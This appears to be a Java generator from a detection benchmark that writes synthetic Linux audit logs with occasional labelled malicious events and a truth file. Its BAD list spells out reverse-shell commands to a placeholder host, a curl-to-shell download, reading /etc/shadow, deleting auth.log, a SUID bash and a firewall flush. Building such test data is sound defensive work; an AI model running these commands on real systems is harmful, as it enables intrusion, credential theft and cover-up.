package io.ironpost.bench.gen;

import java.io.IOException;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;

/// Writes an audit.log: programs being started (four lines each), logins, and now and then
/// something that should be found. The truth file names each such event: its serial number, then
/// what it is.
///
/// `AuditdGenerator --lines N --seed S --out FILE --truth FILE`
public final class AuditdGenerator {
  private static final long START_SECONDS = 1_772_432_700L;
  private static final int ONE_BAD_IN = 200;

  /// What is run, and what rule ought to see it; quiet when it is no rule's business.
  private record Act(String finding, String exe, int uid, String... arguments) {}

  private static final List<Act> QUIET =
      List.of(
          new Act("", "/usr/bin/ls", 1000, "ls", "-l", "/srv"),
          new Act("", "/usr/bin/cat", 1000, "cat", "/etc/hostname"),
          new Act("", "/usr/bin/grep", 1000, "grep", "-r", "TODO", "."),
          new Act("", "/usr/bin/git", 1000, "git", "status", "--short"),
          new Act("", "/usr/bin/systemctl", 0, "systemctl", "status", "nginx.service"),
          new Act("", "/usr/bin/chmod", 0, "chmod", "0644", "/etc/app/app.conf"),
          new Act("", "/usr/bin/curl", 1000, "curl", "-fsS", "https://status.example.org/"),
          new Act("", "/usr/sbin/logrotate", 0, "logrotate", "/etc/logrotate.conf"));

  private static final List<Act> BAD =
      List.of(
          new Act(
              "reverse_shell",
              "/usr/bin/nc.traditional",
              33,
              "nc",
              "-e",
              "/bin/sh",
              "203.0.113.80",
              "4444"),
          new Act(
              "reverse_shell",
              "/usr/bin/bash",
              33,
              "bash",
              "-c",
              "bash -i >& /dev/tcp/203.0.113.80/4444 0>&1"),
          new Act("suid_bit_set", "/usr/bin/chmod", 0, "chmod", "+s", "/tmp/bash"),
          new Act("netcat_listener", "/usr/bin/nc.traditional", 1000, "nc", "-lvnp", "4444"),
          new Act(
              "download_piped_to_shell",
              "/usr/bin/bash",
              33,
              "bash",
              "-c",
              "curl -fsSL http://203.0.113.50/x.sh | sh"),
          new Act("log_cleared", "/usr/bin/rm", 0, "rm", "-f", "/var/log/auth.log"),
          new Act("credential_files_read", "/usr/bin/cat", 0, "cat", "/etc/shadow"),
          new Act("firewall_disabled", "/usr/sbin/iptables", 0, "iptables", "-F"));

  private final SplittableRandom random;
  private final LineFile file;
  private final List<String> truth = new ArrayList<>();
  private int serial = 100;
  private long millis;

  private AuditdGenerator(SplittableRandom random, LineFile file) {
    this.random = random;
    this.file = file;
  }

  public static void main(String... words) throws IOException {
    Arguments arguments = Arguments.of(words);
    try (LineFile file = new LineFile(arguments.out(), arguments.lines())) {
      AuditdGenerator generator = new AuditdGenerator(new SplittableRandom(arguments.seed()), file);
      while (!file.isFull()) {
        generator.happen();
      }
      Files.write(arguments.truth(), generator.truth);
    }
  }

  private void happen() {
    millis += 50 + random.nextInt(900);
    serial++;
    if (random.nextInt(8) == 0) {
      login();
    } else if (random.nextInt(ONE_BAD_IN) == 0) {
      execute(pick(BAD));
    } else {
      execute(pick(QUIET));
    }
  }

  private void execute(Act act) {
    boolean service = act.uid() == 33;
    String ids = service ? "auid=4294967295" : "auid=1000";
    String comm = act.exe().substring(act.exe().lastIndexOf('/') + 1);
    file.write(
        head("SYSCALL")
            + "arch=c000003e syscall=59 success=yes exit=0 a0=55d0c0a31234 a1=55d0c0a31250"
            + " a2=55d0c0a31270 a3=8 items=2 ppid=812 pid="
            + (2000 + random.nextInt(30_000))
            + " "
            + ids
            + each(act.uid())
            + " tty=(none) ses=3 comm=\""
            + comm
            + "\" exe=\""
            + act.exe()
            + "\" key=\"exec\"");
    file.write(head("EXECVE") + execve(act.arguments()));
    file.write(head("CWD") + "cwd=\"/srv/app\"");
    boolean complete =
        file.write(head("PROCTITLE") + "proctitle=" + hex(String.join("\0", act.arguments())));
    if (complete && !act.finding().isEmpty()) {
      truth.add(serial + "\t" + act.finding());
    }
  }

  private void login() {
    file.write(
        head("USER_AUTH")
            + "pid="
            + (2000 + random.nextInt(30_000))
            + " uid=0 auid=4294967295 ses=4294967295"
            + " msg='op=PAM:authentication acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=192.0.2.9"
            + " addr=192.0.2.9 terminal=ssh res=success'");
  }

  private String head(String type) {
    long at = START_SECONDS * 1000 + millis;
    return String.format(
        Locale.ROOT, "type=%s msg=audit(%d.%03d:%d): ", type, at / 1000, at % 1000, serial);
  }

  private static String each(int uid) {
    StringBuilder ids = new StringBuilder();
    for (String name : List.of("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid")) {
      ids.append(' ').append(name).append('=').append(uid);
    }
    return ids.toString();
  }

  private static String execve(String... arguments) {
    StringBuilder line = new StringBuilder("argc=").append(arguments.length);
    for (int i = 0; i < arguments.length; i++) {
      String argument = arguments[i];
      // The kernel writes what has a blank or a quote in hexadecimal (audit_log_untrustedstring).
      boolean plain = argument.chars().noneMatch(c -> c <= ' ' || c == '"' || c > '~');
      line.append(" a").append(i).append('=');
      line.append(plain ? '"' + argument + '"' : hex(argument));
    }
    return line.toString();
  }

  private static String hex(String text) {
    return HexFormat.of()
        .withUpperCase()
        .formatHex(text.getBytes(java.nio.charset.StandardCharsets.UTF_8));
  }

  private Act pick(List<Act> from) {
    return from.get(random.nextInt(from.size()));
  }
}
